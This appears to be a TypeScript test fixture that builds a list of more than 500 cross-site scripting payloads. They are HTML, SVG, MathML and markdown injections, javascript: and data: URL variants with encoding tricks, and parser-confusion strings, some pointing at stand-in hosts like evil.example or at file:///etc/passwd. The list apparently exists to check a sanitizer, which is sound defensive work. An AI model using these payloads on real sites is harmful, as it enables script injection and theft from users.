/** Text that tries to run a script: HTML, SVG, MathML, markdown with dangerous addresses, and mixtures that confuse parsers. */

const run = "window.ran.push('X')"
const html = [
  `<script>${run}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<img src=x onerror="${run}">`, `<img src=x onerror=${run.replaceAll(' ', '')}>`,
  `<image href=x onerror="${run}">`, `<svg onload="${run}">`, `<svg/onload="${run}"/>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin="${run}" attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`, `<svg><set attributeName="onclick" to="${run}"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`, `<math href="javascript:${run}">x</math>`, `<iframe src="javascript:parent.${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`, `<object data="data:text/html,<script>${run}</script>"></object>`, `<embed src="javascript:${run}">`, `<link rel=stylesheet href="javascript:${run}">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`, `<body onload="${run}">`, `<details open ontoggle="${run}">x</details>`, `<video><source onerror="${run}"></video>`, `<audio src=x onerror="${run}">`, `<input autofocus onfocus="${run}">`, `<select autofocus onfocus="${run}">`,
  `<textarea autofocus onfocus="${run}">`, `<marquee onstart="${run}">x</marquee>`, `<form action="javascript:${run}"><button>x</button></form>`, `<button formaction="javascript:${run}">x</button>`, `<isindex action="javascript:${run}" type=image>`,
  `<a href="javascript:${run}">x</a>`, `<a href="java&#x09;script:${run}">x</a>`, `<a href=" &#14; javascript:${run}">x</a>`, `<div style="background:url(javascript:${run})">x</div>`, `<div style="width:expression(${run})">x</div>`, `<style>@import "javascript:${run}";</style>`,
  `<style>*{background:url("javascript:${run}")}</style>`, `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<xmp><p title="</xmp><img src=x onerror=${run}>">`, `<!--><img src=x onerror="${run}">-->`,
  `<![CDATA[<script>${run}</script>]]>`, `<?xml version="1.0"?><script>${run}</script>`, `<custom-element onclick="${run}" autofocus tabindex=0 onfocus="${run}">x</custom-element>`, `<dialog open onclose="${run}"><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<portal src="javascript:${run}">`, `<img srcset="x" onerror="${run}">`, `<picture><source srcset=x><img onerror="${run}"></picture>`, `<table background="javascript:${run}"><td>x</td></table>`, `<keygen autofocus onfocus="${run}">`,
]
const addresses = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `javascript&#58;${run}`, `javascript&colon;${run}`, `java\tscript:${run}`, `java&#10;script:${run}`, `&#106;avascript:${run}`, `\u0001javascript:${run}`, `javascript://evil.example/%0a${run}`,
  `javascript:%77indow.ran.push(1)`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${run}>`, `vbscript:${run}`, `blob:http://127.0.0.1/x`, `filesystem:http://127.0.0.1/x`,
  `view-source:javascript:${run}`, `feed:javascript:${run}`, `jar:javascript:${run}!/`, `file:///etc/passwd`, `//evil.example/x`, `\\\\evil.example\\x`, `x" onclick="${run}`, `x' onmouseover='${run}`, `x onerror=${run}`, `ms-msdt:/id x`, `smb://evil.example/x`, `intent://x#Intent;end`, `about:blank`,
]
const forms: readonly ((address: string) => string)[] = [
  address => `[x](${address})`,
  address => `[x](<${address}>)`,
  address => `![x](${address})`,
  address => `<${address}>`,
  address => `[x][r]\n\n[r]: ${address}`,
  address => `![x][r]\n\n[r]: <${address}> "t"`,
  address => `[![x](${address})](${address})`,
  address => `[x](${address} "onclick=${run}")`,
  address => `| [x](${address}) |\n|---|\n| ![y](${address}) |`,
]
const wrappers: readonly ((payload: string) => string)[] = [
  payload => payload,
  payload => `before ${payload} after`,
  payload => `- item\n\n  ${payload}`,
  payload => `> ${payload}`,
  payload => `\`\`\`html\n${payload}\n\`\`\``,
  payload => `# ${payload}`,
  payload => `\`\`\`${payload}\ncode\n\`\`\``,
  payload => `**${payload}** ~~${payload}~~ \`${payload}\``,
]
const odd = [
  `[x](javascript:${run}\n\n![x](`, `[a]: javascript:${run}\n[a][a][a]`, `[^1]\n\n[^1]: <img src=x onerror=${run}>`, `- [x] <img src=x onerror=${run}>`, `~~~"><img src=x onerror=${run}>\nx\n~~~`, `www.evil.example/"onmouseover="${run}`, `<https://evil.example/" onclick="${run}>`,
  `$$\\href{javascript:${run}}{x}$$`, `\`\`\`mermaid\ngraph TD; A[<img src=x onerror=${run}>]; click A "javascript:${run}"\n\`\`\``, `\`\`\`svg\n<svg onload=${run}></svg>\n\`\`\``, `<${'a'.repeat(5000)} onclick=${run}>`, `${'['.repeat(2000)}x${'](javascript:1)'.repeat(2000)}`, `&lt;script&gt;${run}&lt;/script&gt;`,
  `\u202Egnp.${run}`, '*a_'.repeat(3000), `${'> '.repeat(500)}<img src=x onerror=${run}>`,
]

/** At least 500, each different. */
export const hostileAnswers: readonly string[] = [
  ...new Set([...html.flatMap((payload, index) => wrappers.filter((_, place) => place === 0 || (place + index) % 2 === 0).map(wrap => wrap(payload))), ...addresses.flatMap(address => forms.map(form => form(address))), ...odd]),
]
